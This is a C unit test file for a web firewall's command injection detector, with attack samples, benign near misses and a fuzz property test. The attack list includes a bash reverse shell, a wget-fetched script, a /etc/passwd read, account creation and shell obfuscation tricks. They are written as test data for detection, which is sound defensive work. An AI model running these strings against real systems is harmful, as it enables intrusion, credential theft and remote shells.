/* tests/waf/test_waf_rce.c — unit tests for waf_detect_rce (OS command injection). */
#include "detector_test.h"
#include "random_phrase.h"
#include "normalize.h"

/* Written for these tests: attacks of the class, in its usual encodings. */
static const struct sample attacks[] = {
    {WAF_PLACE_ARG, "; cat /etc/passwd"},
    {WAF_PLACE_ARG, "a;id|"},
    {WAF_PLACE_ARG, "| ls -la /tmp"},
    {WAF_PLACE_ARG, "&& whoami"},
    {WAF_PLACE_ARG, "`id`"},
    {WAF_PLACE_ARG, "$(wget http://x/y.sh)"},
    {WAF_PLACE_ARG, "\ncat /etc/hosts"},
    {WAF_PLACE_ARG, "ipconfig /all"},
    {WAF_PLACE_ARG, "; net user hacker /add"},
    {WAF_PLACE_ARG, "cat${IFS}/etc/passwd"},
    {WAF_PLACE_ARG, "{cat,/etc/passwd}"},
    {WAF_PLACE_ARG, "/bin/ca? /et?/pass??"},
    /* a system binary by its path: "/b" "/u" "/s" open every directory */
    {WAF_PLACE_ARG, "x /USR/bin/id"},
    {WAF_PLACE_ARG, "x /sbin/reboot"},
    {WAF_PLACE_ARG, "c'a't /etc/issue"},
    {WAF_PLACE_ARG, "() { :;}; echo vulnerable"},
    {WAF_PLACE_ARG, "powershell -enc AAAA"},
    {WAF_PLACE_ARG, "Invoke-WebRequest http://x/a.ps1"},
    {WAF_PLACE_ARG, "cmd.exe /c dir"},
    {WAF_PLACE_ARG, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
    {WAF_PLACE_ARG, "| sleep 5"},
    {WAF_PLACE_ARG, "if defined x echo y"},
    {WAF_PLACE_ARG, "; rmt --version"},
    {WAF_PLACE_ARG, "~+"},
};

/* Near misses: ordinary data that shares characters with the attacks. */
static const struct sample benign[] = {
    {WAF_PLACE_ARG, "see /sizes/big /usual/ways"}, /* "/s" "/u" but no binary */
    {WAF_PLACE_ARG, "one; two"},
    {WAF_PLACE_ARG, "a|b"},
    {WAF_PLACE_ARG, "Tom & Jerry"},
    {WAF_PLACE_ARG, "Name | Type | Size"},
    {WAF_PLACE_ARG, "time express"},
    {WAF_PLACE_ARG, "pwd"},
    {WAF_PLACE_ARG, "id"},
    {WAF_PLACE_ARG, "python tutorial for beginners"},
    {WAF_PLACE_ARG, "I love java; python is fine too"},
    {WAF_PLACE_ARG, "sort by date"},
    {WAF_PLACE_ARG, "-created_at"},
    {WAF_PLACE_ARG, "select a plan"},
    {WAF_PLACE_ARG, "drop us a line"},
    {WAF_PLACE_ARG, "R&D; sales & marketing"},
    {WAF_PLACE_ARG, "{\"a\":1,\"b\":[1,2]}"},
    {WAF_PLACE_ARG, "query { user(id: 1) { name } }"},
    {WAF_PLACE_ARG, "Find the cat; then sleep well"},
    {WAF_PLACE_ARG, "1<2 and 3>2"},
    {WAF_PLACE_HEADER, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"},
};

static void test_attacks(void)
{
    check_attacks(waf_detect_rce, attacks, NSAMPLES(attacks));
}

static void test_benign(void)
{
    check_benign(waf_detect_rce, benign, NSAMPLES(benign));
}

/* waf_rce_possible() lets the engine skip the shell-deobfuscated pass: it must
 * say 1 on anything waf_detect_rce() fires on, and 0 on plain prose. */
static void test_possible(void)
{
    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
        CU_ASSERT_EQUAL(waf_rce_possible(attacks[i].s, strlen(attacks[i].s)), 1);
    /* plain words only: the command word or idiom is what keeps them */
    static const char *const plain[] = {
        "a;id|", "&& whoami", "x; WHOAMI", "one; wget x", "if defined x",
        "; rmt --version", "a|CMD.EXE", "x; Invoke-Expression y", "a;net.webclient",
        "a; nc.exe -e x",
        /* quotes inside a word join it: "c'at" is read as cat */
        "x; c'at y", "wh'oami", "nohup\"id&", "c:cat&& x", "it's; sudo rm x",
        /* '(' opens a command position, a function, a .NET call */
        "x <(id)", "(whoami)", "f() { x; }",
        "(New-Object Net.WebClient).DownloadString(x)"};
    for (size_t i = 0; i < sizeof plain / sizeof plain[0]; i++) {
        CU_ASSERT_EQUAL(waf_rce_possible(plain[i], strlen(plain[i])), 1);
        if (waf_rce_possible(plain[i], strlen(plain[i])) == 0)
            fprintf(stderr, "not possible: %s\n", plain[i]);
    }
    /* what deobfuscation leaves of prose: the RCE pass is skipped */
    static const char *const prose[] = {
        "extra basil, please; its for Toms birthday",
        "Ring twice, the bells broken. Dont knock!", "Tom & Jerry; R&D | sales",
        /* quotes inside words, commands off position */
        "extra basil, please; it's for Tom's birthday", "we'll cat-sit; O'Brien's ls",
        "well done, crispy edges if you can",
        /* a spaced dash is no long option */
        "light on the cheese -- doctor's orders",
        /* parentheses of prose */
        "surprise us! (no anchovies though)", "no onions (allergy!) - thanks"};
    for (size_t i = 0; i < sizeof prose / sizeof prose[0]; i++)
        CU_ASSERT_EQUAL(waf_rce_possible(prose[i], strlen(prose[i])), 0);
    /* from the charset: the same answers (and '~' '^' CR LF, which share
     * their bits with '!' '?' TAB, through the pass) */
    static const char *const by_cs[] = {"x; rmt --version",
                                        "a;net.webclient",
                                        "it's; sudo rm x",
                                        "x <(id)",
                                        "f() { x; }",
                                        "a~/x",
                                        "x;^id",
                                        "a\nid",
                                        "x\n; id",
                                        "Tom & Jerry; R&D | sales",
                                        "surprise us! (no anchovies though)",
                                        "no onions (allergy!) - thanks",
                                        "light on the cheese -- doctor's orders",
                                        "x) and y",
                                        "a-b; c.d"};
    for (size_t i = 0; i < sizeof by_cs / sizeof by_cs[0]; i++) {
        const char *t = by_cs[i];
        size_t l = strlen(t);
        CU_ASSERT_EQUAL(waf_rce_possible_cs(t, l, waf_charset(t, l)),
                        waf_rce_possible(t, l));
    }
    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
        const char *t = attacks[i].s;
        size_t l = strlen(t);
        CU_ASSERT_EQUAL(waf_rce_possible_cs(t, l, waf_charset(t, l)), 1);
    }
    /* property: random phrases of shell pieces and words */
    static const char *const frag[] = {"cat",
                                       "ls",
                                       "whoami",
                                       "if",
                                       "defined",
                                       "net",
                                       "user",
                                       " ",
                                       ";",
                                       "|",
                                       "&",
                                       "&&",
                                       "-",
                                       "--",
                                       "-la",
                                       ".",
                                       ".exe",
                                       "CMD.EXE",
                                       ":",
                                       "c:",
                                       "x",
                                       "Invoke-Expression",
                                       "net.webclient",
                                       "sudo",
                                       "nohup",
                                       ". ",
                                       "+",
                                       "\t",
                                       "@",
                                       "42",
                                       "it's",
                                       "c'at",
                                       "wh\"oami",
                                       "O'",
                                       "exec",
                                       "command",
                                       " not",
                                       "at",
                                       "Start-Process",
                                       "get-wmiobject",
                                       "-EncodedCommand",
                                       ")",
                                       "()",
                                       ".DownloadString(",
                                       "python3",
                                       "sort",
                                       "id",
                                       "'",
                                       "\"",
                                       ",",
                                       "!",
                                       "#",
                                       "<",
                                       ">",
                                       "é",
                                       "sleep",
                                       "$",
                                       "(",
                                       "/",
                                       "~",
                                       "{",
                                       "\\n",
                                       "%",
                                       "`",
                                       "^"};
    unsigned seed = 12345;
    char buf[128];
    for (int it = 0; it < 200000; it++) {
        size_t n =
            random_phrase(&seed, frag, sizeof frag / sizeof frag[0], buf, sizeof buf);
        CU_ASSERT_EQUAL_FATAL(waf_rce_possible_cs(buf, n, waf_charset(buf, n)),
                              waf_rce_possible(buf, n));
        if (waf_rce_possible(buf, n)) continue;
        struct waf_hit h;
        for (int p = WAF_PLACE_PATH; p <= WAF_PLACE_BODY; p++) {
            int r = waf_detect_rce(buf, n, (enum waf_place)p, &h);
            if (r) fprintf(stderr, "fires but not possible: %.*s\n", (int)n, buf);
            CU_ASSERT_EQUAL_FATAL(r, 0);
        }
    }
}

static void test_robustness(void)
{
    check_robustness(waf_detect_rce);
}

int main(void)
{
    static const struct named_test tests[] = {
        {"attacks", test_attacks},
        {"benign near misses", test_benign},
        {"shell-form prefilter", test_possible},
        {"robustness", test_robustness},
    };
    return run_suite("waf_rce", tests, NSAMPLES(tests));
}
